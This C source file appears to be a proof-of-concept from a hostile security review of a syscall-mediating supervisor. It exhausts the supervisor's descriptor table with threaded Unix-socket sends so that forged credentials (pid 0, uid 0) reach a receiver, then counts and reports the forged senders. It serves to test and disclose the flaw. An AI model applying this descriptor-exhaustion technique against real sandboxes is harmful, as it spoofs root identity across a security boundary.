/* ha56-emfile: hostile review h-attack56's descriptor-table agent (see
 * ha56-emfile.sh).
 *   ha56-emfile STEPS [MODE]
 * Drops to uid 1000 (when root), binds a SOCK_DGRAM socket to an abstract
 * name with SO_PASSCRED and sends one byte at a time to that name from an
 * unbound socket: a sendto with a name, performed by the supervisor with
 * the caller's credentials (sv_mediate_caller_creds, which reads
 * /proc/TID/status). Every byte is read back with the sender the kernel
 * names (SCM_CREDENTIALS); unsupervised each names this process (its pid,
 * uid 1000). Prints one line per message naming another sender, and a
 * summary.
 * MODE storm (the finding): 8 threads send STEPS bytes each at once. Near
 *   the supervisor's descriptor limit some call's status open is refused
 *   EMFILE after its duplicate was made, and "ours stay": pid 0, uid 0,
 *   gid 0 reach the receiver. HA56_HOLD=N first fills a second receiver's
 *   queue and starts N threads whose sendto to it waits in the supervisor
 *   (each holding descriptors there).
 * MODE held (tried, not used): a thread per step whose connect to a full
 *   listener was to wait in the supervisor; answered ECONNREFUSED or
 *   denied instead, so it holds nothing for long.
 * No MODE: per step a new thread sends one byte and exits, then the main
 *   thread sends one (the pidfd cache does not keep exited threads': no
 *   descriptor is left behind; held). */
#define _GNU_SOURCE
#include <errno.h>
#include <stddef.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static int sv[2];
static struct sockaddr_un full = {.sun_family = AF_UNIX};
static socklen_t full_len;

/* MODE held: a connect to a listener whose queue is full waits in the
 * supervisor (sv_unixpeer_act's wait loop), which holds its duplicate of
 * the socket and the thread's pidfd meanwhile. */
static void *held(void *arg)
{
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	(void)arg;
	connect(fd, (struct sockaddr *)&full, full_len);
	pause();
	return NULL;
}

static struct sockaddr_un rcv = {.sun_family = AF_UNIX, .sun_path = "\0ha56rcv"};
#define RCV_LEN ((socklen_t)(offsetof(struct sockaddr_un, sun_path) + 8))

/* A sendto with a name: performed by the supervisor (judged, then sent by a
 * receiver thread with the caller's credentials prepended). */
static int send_one(void)
{
	return sendto(sv[0], "x", 1, 0, (struct sockaddr *)&rcv, RCV_LEN) == 1 ? 0 : errno;
}

static void *touch(void *arg)
{
	int *err = arg;

	*err = send_one();
	return NULL;
}

/* Reads every byte waiting; counts the ones not naming us. */
static int drain(int step, const char *who, int *own)
{
	int forged = 0;

	for (;;) {
		char b, cbuf[CMSG_SPACE(sizeof(struct ucred))];
		struct iovec io = {.iov_base = &b, .iov_len = 1};
		struct msghdr m = {.msg_iov = &io,
				   .msg_iovlen = 1,
				   .msg_control = cbuf,
				   .msg_controllen = sizeof(cbuf)};
		struct cmsghdr *c;
		struct ucred u = {0};

		if (recvmsg(sv[1], &m, MSG_DONTWAIT) != 1)
			break;
		c = CMSG_FIRSTHDR(&m);
		if (c && c->cmsg_type == SCM_CREDENTIALS)
			memcpy(&u, CMSG_DATA(c), sizeof(u));
		if (u.pid == getpid() && u.uid == getuid()) {
			(*own)++;
		} else {
			forged++;
			fprintf(stderr, "ha56 emfile step %d (%s): sender pid %d uid %u gid %u\n",
				step, who, (int)u.pid, (unsigned)u.uid, (unsigned)u.gid);
		}
	}
	return forged;
}

static int fullfd;
static struct sockaddr_un fullrcv = {.sun_family = AF_UNIX, .sun_path = "\0ha56dgfull"};
#define FULL_LEN ((socklen_t)(offsetof(struct sockaddr_un, sun_path) + 11))

/* HA56_HOLD: a sendto to a receiver whose queue is full waits in the
 * supervisor (sv_unixpeer_act's wait loop), holding the thread's pidfd and
 * its duplicate of the socket meanwhile: two descriptors per thread. */
static void *holder(void *arg)
{
	int fd = socket(AF_UNIX, SOCK_DGRAM, 0);

	(void)arg;
	sendto(fd, "h", 1, 0, (struct sockaddr *)&fullrcv, FULL_LEN);
	pause();
	return NULL;
}

/* MODE storm: threads that send at once, so that near the supervisor's
 * descriptor limit some call finds the table full after its duplicate was
 * made and before /proc/TID/status is opened. */
static void *storm(void *arg)
{
	for (int i = 0; i < *(int *)arg; i++)
		send_one();
	return NULL;
}

int main(int argc, char **argv)
{
	int steps = argc > 1 ? atoi(argv[1]) : 200, on = 1, forged = 0, own = 0, errs = 0;
	int hold = argc > 2 && strcmp(argv[2], "held") == 0, l = -1;

	if (getuid() == 0 && (setresgid(1000, 1000, 1000) != 0 || setresuid(1000, 1000, 1000) != 0))
		perror("ha56 setresuid");
	sv[0] = socket(AF_UNIX, SOCK_DGRAM, 0);
	sv[1] = socket(AF_UNIX, SOCK_DGRAM, 0);
	if (sv[0] < 0 || sv[1] < 0 || bind(sv[1], (struct sockaddr *)&rcv, RCV_LEN) != 0 ||
	    setsockopt(sv[1], SOL_SOCKET, SO_PASSCRED, &on, sizeof(on)) != 0) {
		perror("ha56 socketpair");
		return 2;
	}
	if (argc > 2 && strcmp(argv[2], "storm") == 0) {
		pthread_t t[8];
		int r = 1 << 20;

		/* The receiving queue holds far fewer than 8 x steps bytes: drain
		 * while they send. */
		setsockopt(sv[1], SOL_SOCKET, SO_RCVBUF, &r, sizeof(r));
		if (getenv("HA56_HOLD")) {
			int n = atoi(getenv("HA56_HOLD")), q = 0;
			struct timespec ts = {1, 0};
			pthread_t h;

			fullfd = socket(AF_UNIX, SOCK_DGRAM, 0);
			if (bind(fullfd, (struct sockaddr *)&fullrcv, FULL_LEN) != 0)
				perror("ha56 full bind");
			while (sendto(sv[0], "f", 1, MSG_DONTWAIT, (struct sockaddr *)&fullrcv,
				      FULL_LEN) == 1)
				q++;
			fprintf(stderr, "ha56 emfile: queue full after %d (%s), %d holders\n", q,
				strerrorname_np(errno), n);
			for (int i = 0; i < n; i++)
				pthread_create(&h, NULL, holder, NULL);
			nanosleep(&ts, NULL);
		}
		for (int i = 0; i < 8; i++)
			pthread_create(&t[i], NULL, storm, &steps);
		for (int i = 0; i < 8; i++) {
			while (pthread_tryjoin_np(t[i], NULL) != 0)
				forged += drain(i, "storm", &own);
		}
		forged += drain(8, "storm", &own);
		fprintf(stderr, "ha56 emfile: uid %u pid %d: %d named us, %d named another\n",
			(unsigned)getuid(), (int)getpid(), own, forged);
		return forged != 0;
	}
	if (hold) {
		struct sockaddr_un a = {.sun_family = AF_UNIX};
		int c = socket(AF_UNIX, SOCK_STREAM, 0);

		memcpy(a.sun_path, "\0ha56full", 9);
		full = a;
		full_len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 9);
		l = socket(AF_UNIX, SOCK_STREAM, 0);
		if (bind(l, (struct sockaddr *)&full, full_len) != 0 || listen(l, 0) != 0 ||
		    connect(c, (struct sockaddr *)&full, full_len) != 0)
			perror("ha56 full listener");
	}
	for (int i = 0; i < steps; i++) {
		pthread_t t;
		int err = 0;

		if (hold) {
			struct timespec ts = {0, 20 * 1000 * 1000};

			pthread_create(&t, NULL, held, NULL);
			nanosleep(&ts, NULL);
			if (send_one() != 0)
				errs++;
			forged += drain(i, "main", &own);
			fprintf(stderr, "ha56 emfile step %d: %d named us, %d another\n", i, own,
				forged);
			continue;
		}
		if (pthread_create(&t, NULL, touch, &err) != 0) {
			perror("ha56 pthread_create");
			break;
		}
		pthread_join(t, NULL);
		if (err)
			errs++;
		forged += drain(i, "thread", &own);
		if (send_one() != 0)
			errs++;
		forged += drain(i, "main", &own);
	}
	fprintf(stderr, "ha56 emfile: uid %u pid %d: %d named us, %d named another, %d errors\n",
		(unsigned)getuid(), (int)getpid(), own, forged, errs);
	return forged != 0;
}
